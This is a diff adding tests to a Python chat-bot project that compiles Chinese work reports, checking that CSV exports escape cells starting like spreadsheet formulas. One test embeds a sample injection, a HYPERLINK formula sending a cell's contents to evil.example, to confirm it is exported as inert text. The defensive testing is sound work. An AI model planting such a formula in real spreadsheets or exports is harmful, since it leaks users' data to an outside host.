@@ -25,16 +25,21 @@ import pytest
 from aiohttp.test_utils import TestClient, TestServer
 from docx.enum.text import WD_ALIGN_PARAGRAPH
 from docx.oxml.ns import qn
+from hypothesis import given
+from hypothesis import strategies as st
 from sqlalchemy import select
 from test_chat_local import Room, app_config, post_notice
 
 from bot.app import create_app
+from bot.appkeys import BOT
 from bot.cli import main
 from bot.core.i18n import Translator
 from bot.core.report_format import (
     FIELDS,
+    FORMULA_STARTS,
     chinese_numeral,
     format_date,
+    inert,
     measure_key,
     merge_measures,
     render_markdown,
@@ -555,3 +560,52 @@ def test_multiline_results_stay_verbatim_in_one_list_item() -> None:
     results = "一是修订了办法。\n二是加强了督查。"
     text = render_markdown([row(1, "张三", ("修订办法",), results)], "办公室", dt.date(2019, 12, 4))
     assert "- 张三：一是修订了办法。\n  二是加强了督查。" in text
+
+
+@given(st.text(max_size=40))
+def test_no_csv_cell_starts_like_a_formula(text: str) -> None:
+    cell = inert(text)
+    assert isinstance(cell, str)
+    assert not cell.startswith(FORMULA_STARTS)
+    assert cell == text or (cell == "'" + text and text.startswith(FORMULA_STARTS))
+
+
+async def test_formulas_typed_in_chat_are_exported_as_text(
+    db: Database, tmp_path: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    """The attack: 措施 =HYPERLINK(…) and 成效 =1+1, reported in chat, then exported as CSV
+    (by the CLI and by the signed download); a spreadsheet must show them, not run them."""
+    await seed_people(db, dt.datetime.now(dt.UTC), PEOPLE)
+    app = create_app(app_config(db), {})
+    hyperlink = '=HYPERLINK("http://evil.example/?x="&A1,"点我")'
+    async with TestClient(TestServer(app)) as client:
+        room = Room(client, db)
+        notice = await post_notice(room, f"通知 {ITEM1_TITLE}\n对象：@张三\n要求：成效")
+        await room.post("p001", f"完成 #{notice}\n措施：1. {hyperlink}\n成效：=1+1")
+        await room.settle()
+        async with db.read() as s:
+            stored = (await s.scalars(select(Outcome))).one()
+        assert (stored.measures, stored.results) == ([hyperlink], "=1+1")  # kept as written
+        today = dt.datetime.now(SHANGHAI).date().isoformat()
+        links = client.app[BOT].report_links
+        assert links is not None
+        day = dt.date.fromisoformat(today)
+        expires = dt.datetime.now(dt.UTC) + dt.timedelta(hours=1)
+        path = "/" + links.url(day, day, expires).split("/", 3)[3]
+        download = await client.get(path, params={"format": "csv"})
+        assert download.status == 200
+        downloaded = (await download.read()).decode("utf-8-sig")
+        json_export = await client.get(path, params={"format": "json"})
+        assert (await json_export.json())[0]["results"] == "=1+1"  # JSON stays verbatim
+    config = tmp_path / "config.toml"
+    url = db.url.render_as_string(hide_password=False)
+    config.write_text(f'[database]\nurl = "{url}"\n', encoding="utf-8")
+    capsys.readouterr()
+    argv = ["-c", str(config), "report", "--since", today, "--until", today, "--format", "csv"]
+    code = await asyncio.to_thread(main, argv, {})
+    printed = capsys.readouterr().out
+    assert code == 0
+    for exported in (downloaded, printed.removeprefix("\ufeff")):
+        (row,) = csv.DictReader(io.StringIO(exported, newline=""))
+        assert row["measures"] == "'" + hyperlink
+        assert row["results"] == "'=1+1"
